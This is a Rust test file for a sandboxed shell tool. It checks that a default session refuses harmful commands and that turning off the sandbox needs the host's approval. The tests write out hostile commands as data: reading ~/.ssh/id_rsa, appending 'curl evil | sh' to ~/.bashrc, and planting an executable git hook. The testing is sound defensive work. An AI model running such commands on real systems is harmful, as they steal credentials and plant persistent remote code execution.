//! SBX-3: the library seals by default. A host that embeds `Session` as the README shows,
//! with every default but a fake home, gets `workspace-write` for what is not read-only,
//! the secrets hidden, and `dangerouslyDisableSandbox` put to its user.

use wavesh_exec::sandbox::Level;
use wavesh_tool::{BashInput, CallContext, Session, ToolError};

use crate::{Fixture, enforced_or_skip, write};

fn default_session(f: &Fixture) -> Session {
    Session::builder(&f.ws).home(&f.home).build().unwrap()
}

/// The four harms a default session let through before: a write outside the
/// workspace, a read of `~/.ssh/id_rsa`, an append to `~/.bashrc`, a planted
/// `.git/hooks/pre-commit`. Each is refused, and the result says so.
#[tokio::test]
async fn sbx_3_a_default_session_refuses_the_four_harms() {
    if !enforced_or_skip(Level::WorkspaceWrite) {
        return;
    }
    let f = Fixture::new();
    write(&f.home.join(".bashrc"), "# the user's\n");
    let session = default_session(&f);
    let out = f.outside.display();
    let harms = [
        (
            "a write outside the workspace",
            format!("echo pwned > {out}/victim.txt"),
        ),
        (
            "a new file outside, through a relative path",
            "echo pwned > ../planted".to_owned(),
        ),
        ("a read of ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa".to_owned()),
        (
            "an append to ~/.bashrc",
            "echo 'curl evil | sh' >> ~/.bashrc".to_owned(),
        ),
        (
            "a planted git hook",
            "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"
                .to_owned(),
        ),
    ];
    for (name, command) in harms {
        let result = f.run(&session, &command).await;
        assert!(
            !result.text.contains(&f.marker),
            "{name}: a secret was printed: {}",
            result.text
        );
        assert!(
            result.text.contains("sandbox refused"),
            "{name}: no denial note: {}",
            result.text
        );
    }
    session.shutdown().await;
    assert_eq!(
        std::fs::read_to_string(f.outside.join("victim.txt")).unwrap(),
        "original\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
        "# the user's\n"
    );
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert!(!f.base.join("planted").exists());
}

/// `dangerouslyDisableSandbox` asks a default session's host, which approves every other
/// call, and runs unsandboxed only once the host marks the call approved (SBX-3).
#[tokio::test]
async fn sbx_3_disabling_the_sandbox_needs_the_hosts_approval() {
    if !enforced_or_skip(Level::WorkspaceWrite) {
        return;
    }
    let f = Fixture::new();
    let session = default_session(&f);
    let command = format!("echo approved > {}/new", f.outside.display());
    let mut input = BashInput::new(&command);
    input.dangerously_disable_sandbox = true;
    match session.bash(input.clone(), &CallContext::default()).await {
        Err(ToolError::NeedsApproval(_)) => {}
        other => panic!("not put to the user: {other:?}"),
    }
    assert!(!f.outside.join("new").exists());
    let approved = CallContext {
        approved: true,
        ..CallContext::default()
    };
    let result = session.bash(input, &approved).await.unwrap();
    assert_eq!(result.exit_code, Some(0), "{}", result.text);
    assert_eq!(
        std::fs::read_to_string(f.outside.join("new")).unwrap(),
        "approved\n"
    );
    session.shutdown().await;
}

/// `off` is chosen by the host with a builder call, never by a configuration value alone.
#[tokio::test]
async fn sbx_3_off_needs_the_builder_call() {
    let f = Fixture::empty();
    let mut config = wavesh_tool::ToolConfig::default();
    config.sandbox.level = Level::Off;
    let error = Session::builder(&f.ws)
        .home(&f.home)
        .config(config.clone())
        .build()
        .unwrap_err();
    assert!(error.to_string().contains("sandbox_level"), "{error}");
    Session::builder(&f.ws)
        .home(&f.home)
        .config(config)
        .sandbox_level(Level::Off)
        .build()
        .unwrap();
}
